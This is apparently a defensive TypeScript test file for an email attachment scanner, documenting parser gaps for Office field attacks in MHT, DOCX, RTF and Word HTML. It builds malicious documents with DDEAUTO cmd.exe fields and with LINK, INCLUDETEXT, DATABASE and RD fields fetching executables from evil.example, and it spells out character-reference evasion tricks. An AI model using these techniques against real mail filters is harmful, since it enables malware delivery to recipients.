import { zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { DDE_COMMAND, DOCX, docxOf, fieldBegin, fieldEnd, instrRun } from './office-builders.js';
import { useLocalStack } from './stack.js';

const stack = useLocalStack();
const kit = attackerKit(stack);
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;

const fieldsHtml = (code: string) =>
  `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40"><head><meta name=ProgId content=Word.Document></head><body><p class=MsoNormal><!--[if supportFields]><span style='mso-element:field-begin'></span>${code}<span style='mso-element:field-separator'></span><![endif]-->x<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]--></p></body></html>`;
// Word's "Single File Web Page" (MHT): a MIME document whose HTML part is quoted-printable, as Word saves it.
const qp = (s: string) => s.replace(/=/g, '=3D').replace(/.{70}/g, '$&=\r\n');
const mht = (html: string) =>
  Buffer.from(
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_NextPart_01D0"\r\n\r\nThis document is a Single File Web Page, also known as a Web Archive file.\r\n\r\n------=_NextPart_01D0\r\nContent-Location: file:///C:/D0/Invoice.htm\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Type: text/html; charset="us-ascii"\r\n\r\n${qp(html)}\r\n\r\n------=_NextPart_01D0--\r\n`,
  );

// A51-5 (high): an MHT (Word's single-file web page) named .doc, which Word opens by content (the shape of the
// CVE-2012-0158 / MHT-as-.doc campaigns): it does not start with `<`, so decide (part-archive.ts:93) lists nothing,
// and isWordMarkupHead (word-markup.ts:31) rejects it; its HTML part's fields are never read.
describe('A51-5: an MHT named .doc', () => {
  it('bounces an MHT .doc with a DDEAUTO field', async () => {
    expect(await verdict('Invoice.doc', mht(fieldsHtml(DDE_COMMAND)), 'application/msword')).toBe('BOUNCE');
  });
  it('bounces an MHT .doc with a LINK field to an executable on a share', async () => {
    const code = 'LINK Package "\\\\\\\\evil.example\\\\s\\\\invoice.exe" "" \\a';
    expect(await verdict('Invoice.doc', mht(fieldsHtml(code)), 'application/msword')).toBe('BOUNCE');
  });
  it('bounces a zip holding an MHT .doc with a DDEAUTO field', async () => {
    const file = zipFile([{ name: 'Invoice.doc', data: mht(fieldsHtml(DDE_COMMAND)) }]);
    expect(await verdict('Invoice.zip', file, 'application/zip')).toBe('BOUNCE');
  });
});

// A51-6 (high): fldCharType read from the raw attribute (field-codes.ts:56, CHAR_TYPE), not as an XML reader gives
// it: `w:fldCharType="&#98;egin"` is `begin` to Word. A field whose begin is so written is not opened; its code
// falls into the result of the field around it, which is dropped (field-codes.ts:75-79, `append`).
describe('A51-6: a field delimiter written with a character reference', () => {
  it('bounces a .docx whose DDEAUTO field begins with fldCharType="&#98;egin" inside another field\'s result', async () => {
    const begin = '<w:r><w:fldChar w:fldCharType="&#98;egin"/></w:r>';
    const end = '<w:r><w:fldChar w:fldCharType="&#101;nd"/></w:r>';
    const separate = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>';
    const body = `<w:p>${fieldBegin}${instrRun('QUOTE "x"')}${separate}${begin}${instrRun(DDE_COMMAND)}${end}${fieldEnd}</w:p>`;
    expect(await verdict('Invoice.docx', docxOf(body), DOCX)).toBe('BOUNCE');
  });
  it('bounces a .docx whose outer separate is written fldCharType="separate" and DDEAUTO begins "&#x62;egin"', async () => {
    const body = `<w:p>${fieldBegin}${instrRun('QUOTE "x"')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="&#x62;egin"/></w:r>${instrRun('INCLUDETEXT "\\\\\\\\evil.example\\\\s\\\\a.hta"')}<w:r><w:fldChar w:fldCharType="end"/></w:r>${fieldEnd}</w:p>`;
    expect(await verdict('Invoice.docx', docxOf(body), DOCX)).toBe('BOUNCE');
  });
  it('(control) bounces the same with the begin written plainly', async () => {
    const separate = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>';
    const body = `<w:p>${fieldBegin}${instrRun('QUOTE "x"')}${separate}${fieldBegin}${instrRun(DDE_COMMAND)}${fieldEnd}${fieldEnd}</w:p>`;
    expect(await verdict('Invoice.docx', docxOf(body), DOCX)).toBe('BOUNCE');
  });
});

// A51-7 (medium): rtfFieldInstructions skips exactly `\fldinst` (field-codes.ts:147) and keeps what follows as text;
// a parameter on the control word (`\fldinst-1`, ended by the next letter, as RTF control words are) is read into
// the code: `-1DDEAUTO`, where RUNNING's `\b` (field-codes.ts:23) finds no word start.
const rtfField = (inst: string) => Buffer.from(`{\\rtf1\\ansi {\\field{\\*${inst}}{\\fldrslt x}}\\par}`);
describe('A51-7: an RTF \\fldinst with a parameter', () => {
  it('bounces an .rtf whose \\fldinst-1 runs into DDEAUTO', async () => {
    const rtf = rtfField('\\fldinst-1DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"');
    expect(await verdict('Invoice.rtf', rtf, 'application/rtf')).toBe('BOUNCE');
  });
  it('bounces an .rtf whose \\fldinst0 runs into a LINK to an executable on a share', async () => {
    const rtf = rtfField('\\fldinst0LINK Package "\\\\\\\\evil.example\\\\s\\\\invoice.exe" "" \\\\a');
    expect(await verdict('Invoice.rtf', rtf, 'application/rtf')).toBe('BOUNCE');
  });
  it('(control) bounces the plain \\fldinst DDEAUTO', async () => {
    const rtf = rtfField('\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"');
    expect(await verdict('Invoice.rtf', rtf, 'application/rtf')).toBe('BOUNCE');
  });
});

// A51-8 (medium, speculative): Word HTML field marks read from the raw page (field-codes.ts:192, HTML_FIELD_MARK),
// not from the style attribute as an HTML reader decodes it: `mso-element&#58;field-begin`.
describe('A51-8: Word HTML field marks written with references', () => {
  it('bounces an HTML .doc whose field-begin mark is written with &#58;', async () => {
    const html = fieldsHtml(DDE_COMMAND).replace(
      "'mso-element:field-begin'",
      "'mso-element&#58;field-begin'",
    );
    expect(await verdict('Invoice.doc', Buffer.from(html), 'application/msword')).toBe('BOUNCE');
  });
});

// A51-13 (medium, partly speculative): fieldSources (field-codes.ts:21, LINKING) knows LINK, INCLUDETEXT,
// INCLUDEPICTURE, INCLUDE and IMPORT; a DATABASE field opens the data source its \d switch names (a workbook, an
// Access database, a document, from a share) when it updates, and an RD field names a document Word opens to build
// a table of contents or index. Neither source is listed.
describe('A51-13: other fields that open a file', () => {
  const f = (code: string) => docxOf(`<w:p>${fieldBegin}${instrRun(code)}${fieldEnd}</w:p>`);
  it('bounces a .docx whose DATABASE field opens a source on a share named .exe', async () => {
    const code = 'DATABASE \\d "\\\\\\\\evil.example\\\\s\\\\invoice.exe" \\s "select 1" \\l "0"';
    expect(await verdict('Invoice.docx', f(code), DOCX)).toBe('BOUNCE');
  });
  it('bounces a .docx whose RD field names an executable on a share', async () => {
    expect(await verdict('Invoice.docx', f('RD "\\\\\\\\evil.example\\\\s\\\\invoice.exe"'), DOCX)).toBe(
      'BOUNCE',
    );
  });
});
